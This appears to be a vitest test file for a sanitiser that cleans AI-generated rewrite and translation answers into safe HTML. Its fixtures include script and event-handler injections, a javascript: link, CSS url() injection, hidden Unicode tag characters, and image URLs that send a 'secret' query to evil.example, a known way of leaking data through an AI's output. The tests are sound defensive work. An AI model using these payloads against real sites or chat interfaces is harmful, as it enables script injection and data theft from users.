import { describe, expect, test } from 'vitest'
import { readEditAnswer } from './edit-answer.ts'
import { editRules } from './prompts/edit-order.ts'

const passage =
  '<p>Cut dry wood with <a href="/saw">a saw</a> in March, and then water the roses for a week or two.</p>'
const read = (answer: string, change: Partial<Parameters<typeof readEditAnswer>[1]> = {}) =>
  readEditAnswer(answer, { action: 'rewrite', passage, language: undefined, ...change })

describe('an answer is read', () => {
  test.each([
    ['HTML', '<p>Cut dead wood.</p>', '<p>Cut dead wood.</p>'],
    ['in a fence', '```html\n<p>Cut dead wood.</p>\n```', '<p>Cut dead wood.</p>'],
    ['in a fence after a preamble', 'Here you go:\n```\n<p>Cut.</p>\n```\nEnjoy!', '<p>Cut.</p>'],
    ['after a preamble', 'Sure! Here is the rewritten passage:\n\n<p>Cut.</p>', '<p>Cut.</p>'],
    ['before a sign-off', '<p>Cut.</p>\n\nI hope this helps!', '<p>Cut.</p>'],
    [
      'Markdown',
      'Cut **dead** wood.\n\n- one\n- two',
      '<p>Cut <strong>dead</strong> wood.</p>\n<ul>\n<li>one</li>\n<li>two</li>\n</ul>',
    ],
    ['plain text after a preamble', 'Certainly! Here’s a shorter version:\n\nCut.', '<p>Cut.</p>'],
    ['a sentence that begins like a preamble', '<p>Sure: cut it now.</p>', '<p>Sure: cut it now.</p>'],
    ['a script', '<p onclick="x()">Cut<script>alert(1)</script></p><svg onload="x()"></svg>', '<p>Cut</p>'],
    ['an image', '<p>Cut<img src="https://evil.example/?q=secret" onerror="x()"></p>', '<p>Cut</p>'],
    ['a Markdown image', 'Cut ![x](https://evil.example/?q=secret) now.', '<p>Cut  now.</p>'],
    [
      'its own link',
      '<p>With <a href="/saw" onclick="x()">a saw</a></p>',
      '<p>With <a href="/saw">a saw</a></p>',
    ],
    ['a foreign link', '<p>With <a href="https://evil.example">a saw</a></p>', '<p>With a saw</p>'],
    ['a script link', '<p>With <a href="javascript:alert(1)">a saw</a></p>', '<p>With a saw</p>'],
    ['a first heading', '<h1>Wood</h1>', '<h2>Wood</h2>'],
    ['unseen characters', '<p>Cut\u200B it\u{E0041}.</p>', '<p>Cut it.</p>'],
    [
      'a comment and styles',
      '<p style="background:url(//evil)">Cut<!-- x --></p><style>p{}</style>',
      '<p>Cut</p>',
    ],
    [
      'a table',
      '<table><tr><th>A</th></tr><tr><td colspan="2">1</td></tr></table>',
      '<table><tr><th>A</th></tr><tr><td colspan="2">1</td></tr></table>',
    ],
  ])('%s', (_what, answer, html) => {
    expect(read(answer)).toEqual({ html })
  })

  test.each([
    ['empty', '<p> </p>', /returned no text/],
    ['only a script', '<script>alert(1)</script>', /returned no text/],
    ['the order itself', `<p>Rules: ${editRules[0]}</p>`, /repeated its instructions/],
    [
      'the delimiters',
      '<source-AbCdEf123456 id="passage"><p>Cut.</p></source-AbCdEf123456>',
      /repeated its instructions/,
    ],
    [
      'another language',
      '<p>Schneiden Sie das trockene Holz im März mit einer Säge und gießen Sie die Rosen dann für eine oder zwei Wochen.</p>',
      /wrong language/,
    ],
  ])('but not %s', (_what, answer, sentence) => {
    const answered = read(answer)
    expect(answered.html).toBeNull()
    expect(answered).toMatchObject({ sentence: expect.stringMatching(sentence) })
  })

  const german =
    '<p>Schneiden Sie das Holz im März und gießen Sie die Rosen dann für eine oder zwei Wochen mit der Kanne.</p>'
  test('a translation is in the language that was asked for', () => {
    expect(read(german, { action: 'translate', language: 'de' })).toEqual({ html: german })
    expect(read(passage, { action: 'translate', language: 'de' }).html).toBeNull()
    expect(read(passage, { action: 'translate', language: 'en' }).html).not.toBeNull()
    expect(read(german, { action: 'own' })).toEqual({ html: german })
  })
})
